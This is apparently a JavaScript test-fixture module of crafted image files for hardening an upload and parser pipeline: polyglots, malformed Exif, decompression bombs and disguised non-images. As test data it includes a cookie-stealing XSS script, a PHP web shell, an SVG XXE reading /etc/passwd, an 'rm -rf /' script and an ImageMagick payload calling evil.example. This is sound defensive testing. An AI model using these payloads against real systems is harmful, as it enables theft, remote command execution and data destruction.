/* Pictures that are odd, that lie, and that attack. Rows as index.mjs says. */
import zlib from 'node:zlib';
import {
  LOSSLESS, LOSSY, PNG_HEAD, SOI, all, animation, be16, be32, canvas, comment, exif, flatJpeg, frameOf, ifd, ihdr, jpegEdges, le32, png,
  pngChunk, pngEdges, progressiveJpeg, riffChunk, segment, webp,
} from './parts.mjs';

const SCRIPT = '<html><body><script>alert(document.cookie)</script></body></html>';
const zeros = (mib) => zlib.deflateSync(Buffer.alloc(mib << 20), { level: 9 });
const zip = all('PK\x03\x04', Buffer.alloc(26), 'PK\x05\x06', Buffer.alloc(18));
const corners = (x, y) => [x < 20 ? 224 : 16, y < 15 ? 192 : 16, 32, 255];

/* What phones and scanners make too: taken, and looked at. */
export const odd = [
  ['JPEG of grey', flatJpeg({ parts: 1, colour: (x) => [x * 32] })],
  ['JPEG of inks (CMYK)', flatJpeg({ parts: 4, colour: (x) => [x < 4 ? 255 : 0, 0, 0, 0] })],
  ["JPEG of inks as Adobe's programs store them", flatJpeg({ parts: 4, adobe: true, colour: (x) => [x < 4 ? 0 : 255, 255, 255, 255] })],
  ['progressive JPEG', progressiveJpeg({ scans: 40 })],
  ['PNG of 16 bits', png({ depth: 16, pixel: (x, y) => corners(x, y).map((v) => v * 257) })],
  ['PNG of 16 bits and alpha', png({ depth: 16, colour: 6, pixel: (x, y) => [...corners(x, y).slice(0, 3).map((v) => v * 257), x < 20 ? 65535 : 0] })],
  ['PNG of grey', png({ colour: 0, pixel: (x) => [x * 6] })],
  ['PNG of grey and alpha, 16 bits', png({ colour: 4, depth: 16, pixel: (x) => [x * 1600, 40000] })],
  ['PNG of a palette', png({ colour: 3, before: [pngChunk('PLTE', Buffer.from([255, 0, 0, 0, 0, 255]))], pixel: (x) => [x < 20 ? 0 : 1] })],
  ['animated PNG', png({ before: [pngChunk('acTL', all(be32(2), be32(0))), pngChunk('fcTL', all(be32(0), be32(40), be32(30), be32(0), be32(0), be16(1), be16(10), be16(0)))], pixel: corners })],
  ['WebP', webp(LOSSY)],
  ['WebP without loss', webp(LOSSLESS)],
  ['WebP of a thousand frames', webp(canvas(64, 64, 2), animation, ...Array.from({ length: 1000 }, (_, i) => frameOf(LOSSLESS, { x: 2 * (i % 30) })))],
].map(([name, bytes]) => ({ name, bytes, taken: true }));

/* Pictures that are sound, with something beside them: it stays out of what others are shown. */
export const polyglots = [
  ['PDF behind a JPEG', flatJpeg({ behind: ['%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (x) >> >>\n%%EOF\n'] }), '%PDF'],
  ['archive behind a JPEG', flatJpeg({ behind: [zip] }), 'PK\x05\x06'],
  ['archive behind a PNG', all(png(), zip), 'PK\x05\x06'],
  ['archive behind a WebP', all(webp(LOSSY), zip), 'PK\x05\x06'],
  ['page behind a PNG', all(png(), SCRIPT), '<script'],
  ['page in a comment of a JPEG', flatJpeg({ before: [comment(SCRIPT)] })],
  ['PDF in a comment of a JPEG', flatJpeg({ before: [comment('%PDF-1.7\n')] })],
  ['page in a text of a PNG', png({ before: [pngChunk('tEXt', all('Comment\0', SCRIPT))] })],
  ['script of PHP in a JPEG', flatJpeg({ before: [comment('<?php system($_GET["c"]); ?>')] })],
  ['page in a chunk of a WebP', webp(canvas(1, 1, 4), LOSSY, riffChunk('XMP ', all(SCRIPT)))],
].map(([name, bytes, dropped]) => ({ name, bytes, taken: true, dropped }));

const LOOP = 8; // where the first directory stands
export const cameras = [
  ['directory that is its own next', exif(be32(LOOP), ifd([[0x0112, 3, 1, 6 << 16]], LOOP))],
  ['directories in a circle', exif(be32(LOOP), ifd([[0x8769, 4, 1, 26]], LOOP), ifd([[0x8769, 4, 1, LOOP], [0x8825, 4, 1, LOOP], [0xa005, 4, 1, 26]], 26))],
  ['a count of four thousand million', exif(be32(LOOP), ifd([[0x010f, 2, 0xffffffff, 26], [0x9003, 5, 0x40000001, 26]]))],
  ['counts whose product overflows', exif(be32(LOOP), ifd([[0x0002, 5, 0x20000000, 8], [0x0004, 12, 0x10000001, 8]]))],
  ['offsets outside', exif(be32(LOOP), ifd([[0x010f, 2, 100, 0xfffffff0], [0x8825, 4, 1, 0x7fffffff]]))],
  ['a first directory outside', exif(be32(0xfffffff8), ifd([]))],
  ['a thumbnail that lies', exif(be32(LOOP), ifd([], 14), ifd([[0x0201, 4, 1, 0xffffff00], [0x0202, 4, 1, 0xffffff00]]))],
  ['a thumbnail of nothing', exif(be32(LOOP), ifd([], 14), ifd([[0x0103, 3, 1, 6 << 16], [0x0201, 4, 1, 9], [0x0202, 4, 1, 60000]]))],
  ['65,535 entries', exif(be32(LOOP), be16(0xffff), Buffer.alloc(60000, 1))],
  ['formats that nobody knows', exif(be32(LOOP), ifd(Array.from({ length: 60 }, (_, i) => [0x9000 + i, i * 1000, 1, i])))],
  ['a place of nothing by nothing', exif(be32(LOOP), ifd([[0x8825, 4, 1, 26]]), ifd([[1, 2, 2, 0x4e000000], [2, 5, 3, 80], [3, 2, 2, 0x45000000], [4, 5, 3, 80]]), Buffer.alloc(40))],
  ["a maker's note in a circle", exif(be32(LOOP), ifd([[0x010f, 2, 5, 50], [0x8769, 4, 1, 26]]), ifd([[0x927c, 7, 400, LOOP]]), 'Canon\0Nikon\0OLYMP\0', Buffer.alloc(300, 0x11))],
  ['no directory at all', segment(0xe1, 'Exif\0\0MM')],
  ['a byte order of nobody', segment(0xe1, 'Exif\0\0QQ\0*', be32(8))],
  ['an orientation of 65,535', exif(be32(LOOP), ifd([[0x0112, 3, 1, 0xffff0000]]))],
  ['fifty times Exif', all(Array.from({ length: 50 }, (_, i) => exif(be32(LOOP), ifd([[0x0112, 3, 1, i << 16]], LOOP))))],
].map(([name, before]) => ({ name: `Exif: ${name}`, bytes: flatJpeg({ before: [before] }), taken: true }));

const LARGE = [30000, 30000];
export const bombs = [
  ['PNG of 30,000 × 30,000', png({}).fill(ihdr(...LARGE), 8, 33), 'quá dài'],
  ['JPEG of 30,000 × 30,000', flatJpeg({ claim: LARGE }), 'quá dài'],
  ['progressive JPEG of 30,000 × 30,000', flatJpeg({ claim: LARGE, marker: 0xc2 }), 'quá dài'],
  ['JPEG of 65,535 × 65,535 in inks', flatJpeg({ claim: [65535, 65535], parts: 4 }), 'quá dài'],
  ['PNG of 2,147,483,647 × 1', all(PNG_HEAD, ihdr(0x7fffffff, 1), pngChunk('IDAT', zeros(1)), pngChunk('IEND')), 'quá dài'],
  ['PNG of 12,000 × 12,000', all(PNG_HEAD, ihdr(12000, 12000), pngChunk('IDAT', zeros(1)), pngChunk('IEND')), 'quá nhiều điểm ảnh'],
  ['WebP of 16,384 × 16,384', webp(canvas(16384, 16384, 2), animation, frameOf(LOSSLESS)), 'quá dài'],
  ['WebP of 16,777,216 × 16,777,216', webp(canvas(1 << 24, 1 << 24, 0), LOSSY), 'quá dài'],
  ['PNG of 200 MB in few pixels', all(PNG_HEAD, ihdr(40, 30), pngChunk('IDAT', zeros(200)), pngChunk('IEND'))],
  ['PNG with a text of 200 MB', png({ before: [pngChunk('zTXt', all('Comment\0\0', zeros(200)))] })],
  ['PNG with a profile of 200 MB', png({ before: [pngChunk('iCCP', all('x\0\0', zeros(200)))] })],
  ['PNG of 50 megapixels and nothing in them', all(PNG_HEAD, ihdr(7000, 7000, 16, 6), pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(10))), pngChunk('IEND')), /./],
  ['progressive JPEG of 800 scans', progressiveJpeg({ side: 1024, scans: 800 }), 'quá nhiều bộ nhớ'],
  ['JPEG of a million empty segments', all(SOI, Buffer.alloc(4 * 200_000, Buffer.from([0xff, 0xfe, 0, 2])), flatJpeg().subarray(2))],
  ['PNG of 50,000 empty chunks', png({ before: [Buffer.concat(Array(50_000).fill(pngChunk('teSt')))] })],
].map(([name, bytes, refused]) => ({ name, bytes, refused }));

const lossy = webp(LOSSY);
const at = (bytes, where, part) => all(bytes.subarray(0, where), part, bytes.subarray(where + part.length));
export const liars = [
  ['WebP that says it is longer', at(lossy, 4, le32(0x7ffffff0)), /./],
  ['WebP that says it is shorter', at(lossy, 4, le32(20)), /./],
  ['WebP whose chunk says it is longer', at(lossy, 16, le32(0xfffffff0)), /./],
  ['WebP of a canvas larger than its picture', webp(canvas(900, 900, 0), LOSSY), /./],
  ['WebP with a frame outside of its canvas', webp(canvas(4, 4, 2), animation, frameOf(LOSSLESS, { x: 4000, y: 4000 })), /./],
  ['WebP with a frame that says it is larger', webp(canvas(64, 64, 2), animation, frameOf(LOSSLESS, { width: 60, height: 60 }))],
  ['WebP of frames in frames', webp(canvas(64, 64, 2), animation, frameOf(frameOf(frameOf(LOSSLESS))))],
  ['WebP that is animated and has no frame', webp(canvas(64, 64, 2), animation), /./],
  ['JPEG of 12 bits', flatJpeg({ bits: 12 }), 'không được hỗ trợ'],
  ['JPEG, arithmetic', flatJpeg({ marker: 0xc9 }), 'không được hỗ trợ'],
  ['JPEG, lossless', flatJpeg({ marker: 0xc3 }), 'không được hỗ trợ'],
  ['JPEG of two frames', all(flatJpeg().subarray(0, -2), flatJpeg({ claim: [4000, 4000] }).subarray(2)), /./],
  ['JPEG of two components', flatJpeg({ parts: 2 }), 'không được hỗ trợ'],
  ['JPEG whose frame is larger than its scan', flatJpeg({ claim: [4000, 3000] }), /./],
  ['JPEG of no height', flatJpeg({ claim: [64, 0] }), /./],
  ['JPEG in a JPEG', all(flatJpeg().subarray(0, -2), flatJpeg()), /./],
  ['PNG whose first chunk is another', all(PNG_HEAD, pngChunk('tEXt', Buffer.from('a\0b')), png().subarray(8)), /./],
  ['PNG with two headers', png({ before: [ihdr(9000, 9000)] }), /./],
  ['PNG with a chunk of 4 GiB', at(png(), 33, be32(0xffffffff)), /./],
  ['PNG without its palette', png({ colour: 3, pixel: () => [9] })],
  ['PNG whose palette is too short', png({ colour: 3, before: [pngChunk('PLTE', Buffer.from([1, 2, 3]))], pixel: () => [255] })],
  ['PNG of 3 bits', png({}).fill(ihdr(40, 30, 3, 0), 8, 33), /./],
  ['PNG of filters that nobody knows', png({ filter: (y) => y })],
  ['drawing (SVG)', all('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">&x;</svg>'), 'không phải ảnh'],
  ['page', all(SCRIPT), 'không phải ảnh'],
  ['page under the head of a GIF', all('GIF89a', SCRIPT), 'định dạng'],
  ['page under the head of a PNG', all(PNG_HEAD, SCRIPT), /./],
  ['page under the head of a JPEG', all(SOI, Buffer.from([0xff]), SCRIPT), /./],
  ['script', all('#!/bin/sh\nrm -rf /\n'), 'không phải ảnh'],
  ['program', all('\x7fELF', Buffer.alloc(200)), 'không phải ảnh'],
  ['archive', zip, 'không phải ảnh'],
  ['picture of an iPhone (HEIC)', all(be32(24), 'ftypheic', Buffer.alloc(100)), 'định dạng'],
  ['TIFF', all('II*\0', Buffer.alloc(100)), 'định dạng'],
  ['Bitmap', all('BM', Buffer.alloc(100)), 'định dạng'],
  ['Postscript', all('%!PS-Adobe-3.0\n(/etc/passwd) run\n'), 'không phải ảnh'],
  ['list of films', all('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'), 'không phải ảnh'],
  ['commands of ImageMagick', all('push graphic-context\nimage over 0,0 0,0 "https://evil.example/"\npop graphic-context\n'), 'không phải ảnh'],
].map(([name, bytes, refused]) => ({ name, bytes, refused }));

/* At each place where one piece ends and the next begins. */
export const cuts = [
  ['JPEG', flatJpeg({ before: [exif(be32(LOOP), ifd([[0x0112, 3, 1, 6 << 16]]))] }), jpegEdges],
  ['PNG', png({ before: [pngChunk('tEXt', Buffer.from('a\0b'))] }), pngEdges],
  ['WebP', webp(canvas(64, 64, 2), animation, frameOf(LOSSLESS), frameOf(LOSSY)), () => [4, 8, 12, 16, 20, 30, 34, 38, 44, 48, 52, 68, 76]],
].flatMap(([kind, bytes, edges]) => [...new Set(edges(bytes))].map((end) => ({ name: `${kind} cut at ${end}`, bytes: bytes.subarray(0, end), refused: /./ })));
